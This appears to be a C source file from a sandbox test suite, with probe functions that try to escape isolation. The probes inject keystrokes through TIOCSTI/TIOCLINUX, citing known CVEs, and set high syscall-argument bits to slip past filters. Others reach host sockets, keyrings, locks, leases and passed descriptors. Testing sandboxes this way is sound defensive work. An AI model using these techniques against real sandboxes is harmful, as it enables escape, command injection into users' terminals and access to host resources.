/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks by ways of talking: sockets, terminals, shared memory, locks, keys. */
#include <fcntl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

static int make_watcher(char **argument)
{
	(void)argument;
	return outcome(inotify_init1(0));
}

/* All that the kernel gives to this user, until standard input ends. */
static int hold_watchers(char **argument)
{
	char byte;

	(void)argument;
	while (inotify_init1(0) >= 0)
		;
	if (errno != EMFILE)
		return -errno;
	puts("HELD");
	fflush(stdout);
	return outcome(read(0, &byte, 1));
}

static int make_socket(char **argument)
{
	return outcome(socket(atoi(argument[0]), atoi(argument[1]), atoi(argument[2])));
}

/* High halves that the kernel does not look at. */
static int make_socket_high(char **argument)
{
	return outcome(syscall(SYS_socket, atol(argument[0]) | (1L << 32), SOCK_RAW, 0));
}

static int connect_abstract(char **argument)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	const size_t length = strlen(argument[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	memcpy(address.sun_path + 1, argument[0], length);
	return outcome(connect(fd, (void *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)));
}

static int connect_path(char **argument)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		return -errno;
	strncpy(address.sun_path, argument[0], sizeof(address.sun_path) - 1);
	return outcome(connect(fd, (void *)&address, sizeof(address)));
}

static int connect_loopback(char **argument)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argument[0])),
				       .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	return outcome(connect(fd, (void *)&address, sizeof(address)));
}

static int attach_shared_memory(char **argument)
{
	return outcome(shmget((key_t)strtol(argument[0], NULL, 0), 1, 0));
}

static int open_queue(char **argument)
{
	return outcome(mq_open(argument[0], O_RDONLY));
}

/* Types a character into the terminal on descriptor 0, as if its user had. CVE-2017-5226, CVE-2019-10063, CVE-2023-28100 */
static int type_into_terminal(char **argument)
{
	char letter = 'x', paste[2] = { 3, 0 };
	unsigned long high = strtoul(argument[1], NULL, 0) << 32;

	if (strcmp(argument[0], "linux") == 0)
		return outcome(syscall(SYS_ioctl, 0, (unsigned long)TIOCLINUX | high, paste));
	return outcome(syscall(SYS_ioctl, 0, (unsigned long)TIOCSTI | high, &letter));
}

static int take_terminal(char **argument)
{
	return outcome(ioctl(0, TIOCSCTTY, atoi(argument[0])));
}

static int open_terminal(char **argument)
{
	return outcome(open(argument[0], O_RDWR));
}

static int set_line_discipline(char **argument)
{
	int discipline = 0;

	(void)argument;
	return outcome(ioctl(0, TIOCSETD, &discipline));
}

/* THROUGH when it gets the lock that somebody outside holds. Refused with EAGAIN means: it is the same file. */
static int see_lock(char **argument)
{
	int fd = open(argument[0], O_RDONLY | O_CREAT, 0600);

	if (fd < 0)
		return -errno;
	if (flock(fd, LOCK_EX | LOCK_NB) < 0)
		return 0; /* the other side is seen */
	return -ENOENT;
}

/* A lease on a file that is shown: whoever opens it for writing waits until it is given back, or for 45 s. fcntl(2), F_SETLEASE */
static int take_lease(char **argument)
{
	int fd = open(argument[0], O_RDONLY);

	return fd < 0 ? -errno : outcome(syscall(SYS_fcntl, fd, 1024 /* F_SETLEASE */ | strtol(argument[1], NULL, 0) << 32, F_RDLCK));
}

/* Searches the session, user-session and user keyrings for a key of the host. */
static int find_key(char **argument)
{
	for (long ring = -5; ring <= -3; ring++)
		if (syscall(SYS_keyctl, 10 /* SEARCH */, ring, "user", argument[0], 0) > 0)
			return 0;
	return -errno;
}

/* A descriptor sent through an inherited socket opens what it is a descriptor of. Descriptor 0 sends itself back. */
static int receive_descriptor(char **argument)
{
	char byte, room[CMSG_SPACE(sizeof(int))];
	struct iovec data = { &byte, 1 };
	struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room) };
	struct cmsghdr *head;

	if (recvmsg(atoi(argument[0]), &message, MSG_DONTWAIT) < 0)
		return -errno;
	head = CMSG_FIRSTHDR(&message);
	return head ? outcome(openat(*(int *)CMSG_DATA(head), argument[1], O_RDONLY)) : -ENODATA;
}

const struct attack channel_attacks[] = {
	{ "make-watcher", make_watcher, 0 }, { "hold-watchers", hold_watchers, 0 },
	{ "socket", make_socket, 3 }, { "socket-high", make_socket_high, 1 }, { "connect-abstract", connect_abstract, 1 },
	{ "connect-path", connect_path, 1 }, { "connect-loopback", connect_loopback, 1 },
	{ "attach-shared-memory", attach_shared_memory, 1 }, { "open-queue", open_queue, 1 },
	{ "type-into-terminal", type_into_terminal, 2 }, { "take-terminal", take_terminal, 1 }, { "open-terminal", open_terminal, 1 },
	{ "set-line-discipline", set_line_discipline, 0 }, { "see-lock", see_lock, 1 }, { "take-lease", take_lease, 2 }, { "find-key", find_key, 1 },
	{ "receive-descriptor", receive_descriptor, 2 },
	{ NULL, NULL, 0 },
};
